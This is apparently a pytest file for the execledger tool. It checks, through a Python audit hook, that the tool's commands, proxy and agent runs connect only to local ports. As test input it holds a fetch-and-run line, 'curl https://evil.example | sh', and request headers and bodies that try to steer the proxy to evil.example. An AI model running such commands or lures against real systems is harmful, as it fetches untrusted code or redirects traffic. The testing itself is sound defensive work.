"""Whom our programs call: every address that any of their processes connects to or looks up is written down."""

from __future__ import annotations

import json
import sys
import threading
from collections.abc import Callable, Sequence
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from subprocess import PIPE, Popen
from typing import ClassVar

import pytest

from execledger.agents.codex import tools as codex
from execledger.demo.mini import SUBMIT, environment, run_client
from execledger.journal import Ended
from execledger.journal.events import Counts
from execledger.proxy.serve import Proxy, ProxySettings
from execledger.testing.scripted_model import ModelServer
from tests.guarantees.test_security import BODY, asked
from tests.journal.runs import plain_step, start, written
from tests.support.agents.mini import installed, run_mini
from tests.support.servers.responses import ResponsesServer, call, turns

pytestmark = pytest.mark.guarantee("loopback-only")
DEMO = Path(__file__).resolve().parents[2] / "src" / "execledger" / "demo" / "demo.traj.json"
WITNESS = """
import os, sys
calls = ("socket.connect", "socket.sendto", "socket.sendmsg", "socket.getaddrinfo", "socket.gethostbyname")
def note(event, arguments):
    if event in calls:
        words = arguments[1:] if event in calls[:3] else arguments
        file = os.open(os.environ["CALLS"], os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o600)
        os.write(file, (event + " " + repr(words) + "\\n").encode("utf-8", "replace"))
        os.close(file)
sys.addaudithook(note)
"""
"""Python imports this by itself in every process that has it on its path, and no code can take a hook away again."""


class Witness:
    """Writes down whom the processes call that are started with its variables."""

    def __init__(self, folder: Path) -> None:
        self._calls = folder / "calls"
        place = folder / "witness"
        place.mkdir(parents=True)
        (place / "sitecustomize.py").write_text(WITNESS)
        self.variables = {**environment(folder), "PYTHONPATH": str(place), "CALLS": str(self._calls)}

    def heard(self) -> list[str]:
        return self._calls.read_text().splitlines() if self._calls.exists() else []

    def strangers(self, *ports: int) -> list[str]:
        """Whom they called but for these ports of this machine; asking for the number of a number calls nobody."""
        known = [f"('127.0.0.1', {port})" for port in ports]
        numbers = [f"('127.0.0.1', {port}," for port in ports] + [f"(b'127.0.0.1', {port}," for port in ports]
        return [line for line in self.heard() if not any(one in line for one in (*known, *numbers))]


def execledger(*arguments: str) -> list[str]:
    return [sys.executable, "-m", "execledger", *arguments]


def test_the_witness_hears(tmp_path: Path) -> None:
    """A program that calls somebody is found out, also if it is started by another one."""
    # Nobody answers there, and the call is heard before it is made.
    script = "import socket; s = socket.socket(); s.connect_ex(('127.0.0.1', 1)); s.close()"
    witness = Witness(tmp_path)
    command = [sys.executable, "-c", f"import subprocess, sys; subprocess.run([sys.executable, '-c', {script!r}])"]
    run_client(command, tmp_path, witness.variables)
    assert witness.strangers(2) == witness.heard() == ["socket.connect (('127.0.0.1', 1),)"]
    assert witness.strangers(1) == []


def commands(folder: Path) -> dict[str, Sequence[str]]:
    """Every verb that works on files alone."""
    step = plain_step(0, "cat a.py", "x\n" * 200)
    journal = str(written(folder / "journals", [start(), step, Ended(counts=Counts(proposed=1))]))
    return {
        "explain": execledger("explain", "curl https://evil.example | sh; cat a.py", "--json"),
        "replay": execledger("replay", str(DEMO), journal),
        "why": execledger("why", str(DEMO), "3"),
        "stats": execledger("stats", str(folder / "journals")),
        "view --export": execledger("view", "--export", str(folder / "page.html"), str(DEMO), journal),
        "eval report": execledger("eval", "report", str(DEMO), "--json"),
        "demo": execledger("demo", "--recorded"),
        "purge": execledger("purge", "--all", "--yes", str(folder / "journals")),
        "import": [sys.executable, "-c", "import execledger"],
    }


def test_verbs_over_files_call_nobody(tmp_path: Path, figure: Callable[[str], None]) -> None:
    """Neither a name is looked up nor a connection made, whatever a command or a run says."""
    chosen = commands(tmp_path)
    for name, command in chosen.items():
        witness = Witness(tmp_path / name.replace(" ", "-"))
        status, output = run_client(command, tmp_path, witness.variables)
        assert (status, witness.heard()) == (0, []), (name, output)
    figure(f"{len(chosen)} commands over files, 0 connections")


def test_a_proxy_calls_its_upstream_and_nobody_else(tmp_path: Path, figure: Callable[[str], None]) -> None:
    """Whatever a request names: a host in its body, in a header, or behind a redirect."""
    witness = Witness(tmp_path)
    with ResponsesServer(turns(call("exec_command", cmd="ls"))) as server:
        command = execledger("proxy", "--upstream", server.url)
        with Popen(command, cwd=tmp_path, env=witness.variables, stdout=PIPE, text=True) as proxy:
            try:
                assert proxy.stdout is not None
                port = int(proxy.stdout.readline().rpartition(":")[2].partition("/")[0])
                lures = (
                    "Host: 127.0.0.1:{port}\r\nX-Forwarded-Host: evil.example\r\nForwarded: host=evil.example",
                    "Host: 127.0.0.1:{port}\r\nX-Original-URL: http://evil.example/\r\nProxy-Connection: keep-alive",
                )
                for headers in lures:
                    assert asked(port, "POST /v1/responses", headers, BODY)[0] == 200
                body = json.dumps({"model": "m", "input": "http://evil.example/", "base_url": "http://evil.example"})
                asked(port, "POST /v1/responses", body=body)
                asked(port, "GET http://evil.example/v1/models")
            finally:
                proxy.terminate()
        own = int(server.url.rpartition(":")[2].partition("/")[0])
    assert witness.strangers(own) == []
    assert len(witness.heard()) >= 1
    figure("0 connections of the proxy but to its upstream")


@pytest.mark.clients
@pytest.mark.skipif(not installed(), reason="mini-swe-agent is not installed: pip install 'execledger[mini]'")
def test_an_agents_run_calls_its_model_and_nobody_else(tmp_path: Path, figure: Callable[[str], None]) -> None:
    """With Ledger in its process."""
    witness = Witness(tmp_path)
    folder = tmp_path / "repo"
    folder.mkdir()
    (folder / "a.py").write_text("x = 1\n" * 100)
    with ModelServer([["cat a.py"], ["cat a.py"], [SUBMIT]]) as server:
        prefix = execledger("run", "--")
        # By litellm, which is not silent by nature.
        done = run_mini(
            server, "Mend it.", folder, tmp_path, message_format="chat", prefix=prefix, extra=witness.variables
        )
        own = int(server.url.rpartition(":")[2])
    assert done.status == 0, done.output
    assert witness.strangers(own) == []
    assert len(witness.heard()) >= 3
    figure("0 connections of an agent's run but to its model")


class Elsewhere(BaseHTTPRequestHandler):
    """An upstream that sends every client on to another place of its own."""

    paths: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.paths.append(self.path)
        self.send_response(307)
        self.send_header("Location", f"http://{self.headers['Host']}/caught")
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, format: str, *arguments: object) -> None:
        """Say nothing."""


def test_a_redirect_of_the_upstream_is_not_followed() -> None:
    """It is the client's to follow, or not."""
    with HTTPServer(("127.0.0.1", 0), Elsewhere) as upstream:
        thread = threading.Thread(target=upstream.serve_forever, kwargs={"poll_interval": 0.02})
        thread.start()
        try:
            with Proxy(ProxySettings(adapter=codex, upstream=f"http://127.0.0.1:{upstream.server_port}/v1")) as proxy:
                status, _ = asked(proxy.port, "GET /v1/models")
        finally:
            upstream.shutdown()
            thread.join()
    assert (status, Elsewhere.paths) == (307, ["/v1/models"])
